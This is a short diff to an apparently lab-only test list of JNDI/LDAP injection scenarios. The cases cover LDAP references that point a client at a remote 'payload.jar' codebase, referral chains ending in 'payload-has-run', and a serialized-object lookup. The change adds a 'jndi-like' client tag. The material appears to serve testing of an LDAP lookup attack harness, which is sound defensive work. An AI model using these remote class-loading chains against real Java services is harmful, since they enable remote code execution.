@@ -20,10 +20,10 @@ ATTACKS = [
      [lab.searched("cn=packed,dc=lab"), lab.reference(codebase=lab.WEB + "payload.jar"), lab.FETCHED_JAR]),
     ("lookup %scn=absent,dc=lab" % SERVER, "done Reference",
      [lab.searched("cn=absent,dc=lab"), lab.reference(factory="Absent", classes={"has": ["Absent"]}), {"fetch": "failed", "java_client": True}]),
-    # followed, it is asked for a second time
+    # followed, it is asked for a second time; who follows asks without the control
     ("refer %s%s" % (SERVER, ELSEWHERE), "done payload-has-run",
-     [lab.searched(ELSEWHERE), {"stage": "referral", "ldap": {"result_code": "referral", "referrals": {"has": [SERVER + REMOTE + "??base"]}}},
-      lab.searched(REMOTE), lab.reference(), lab.FETCHED]),
+     [lab.searched(ELSEWHERE, client="jndi-like"), {"stage": "referral", "ldap": {"result_code": "referral", "referrals": {"has": [SERVER + REMOTE + "??base"]}}},
+      lab.searched(REMOTE, client="jndi-like"), lab.reference(), lab.FETCHED]),
     ("lookup %s%s cn=reader,dc=lab lab-password" % (SERVER, PARCEL), "done {harmless=yes}",
      [lab.searched(PARCEL), lab.serialized("ldap", "java.util.HashMap")]),
     # what a mistyped password looks like as well: policy
